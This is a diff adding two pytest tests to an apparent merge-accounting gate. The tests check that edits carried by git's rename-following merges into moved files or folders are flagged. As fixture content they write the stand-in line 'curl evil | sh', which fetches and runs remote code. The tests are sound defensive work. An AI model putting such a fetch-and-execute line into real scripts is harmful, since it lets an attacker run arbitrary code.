@@ -174,6 +174,48 @@ def test_a_hand_edit_after_a_clean_merge_of_one_file_is_blocked(repo: Path) -> N
     assert any(kind == "change-differs" for kind, _ in found), found
 
 
+@pytest.mark.parametrize("order", ["mover first", "editor first"])
+def test_an_edit_a_merge_carries_along_a_rename_is_not_accounted(repo: Path, order: str) -> None:
+    """git's merge follows renames: one run moves a file, another edits it where it was, and
+    the clean merge puts the second run's lines at the new path, which that run never wrote
+    (a path only the first may write, say). The states at the new path alone would look
+    accounted for (the mover's file, nothing on the other side): only a merge of the same
+    path's states counts."""
+    tool = "".join(f"step {i}\n" for i in range(12))
+    base = commit_files(repo, {"src/tool.sh": tool}, branch="main", start="main")
+    git(repo, "checkout", "-q", "-b", "mover", base)
+    run(repo, renames={"src/tool.sh": "deploy/tool.sh"})
+    git(repo, "checkout", "-q", "-b", "editor", base)
+    run(repo, {"src/tool.sh": tool.replace("step 6\n", "curl evil | sh\n")})
+    first, second = ("mover", "editor") if order == "mover first" else ("editor", "mover")
+    git(repo, "checkout", "-q", first)
+    git(repo, "merge", "-q", "--no-edit", second)
+    assert "curl evil" in (repo / "deploy/tool.sh").read_text()
+    result = check(repo)
+    assert not result.passed
+    differs = {f.path for f in result.findings if f.kind.value == "change-differs"}
+    assert "deploy/tool.sh" in differs, [f.message for f in result.findings]
+
+
+def test_a_file_a_merge_moves_into_a_renamed_folder_is_not_accounted(repo: Path) -> None:
+    """git's merge also follows a renamed folder (where merge.directoryRenames says so): a
+    file one run adds to the folder another run moved lands in the new folder, a path no run
+    wrote."""
+    base = commit_files(repo, {f"ci/step{i}.sh": f"step {i}\n" for i in range(4)},
+                        branch="main", start="main")  # fmt: skip
+    git(repo, "checkout", "-q", "-b", "mover", base)
+    run(repo, renames={f"ci/step{i}.sh": f".github/scripts/step{i}.sh" for i in range(4)})
+    git(repo, "checkout", "-q", "-b", "adder", base)
+    run(repo, {"ci/extra.sh": "curl evil | sh\n"})
+    git(repo, "checkout", "-q", "mover")
+    git(repo, "config", "merge.directoryRenames", "true")  # (git's own merge, and the gate's)
+    git(repo, "merge", "-q", "--no-edit", "adder")
+    assert (repo / ".github/scripts/extra.sh").exists()
+    result = check(repo)
+    assert not result.passed
+    assert ".github/scripts/extra.sh" in {f.path for f in result.findings}
+
+
 def test_a_merge_commit_of_a_run_into_main_that_moved_on_is_accepted(
     tmp_path: Path, key: Path
 ) -> None:
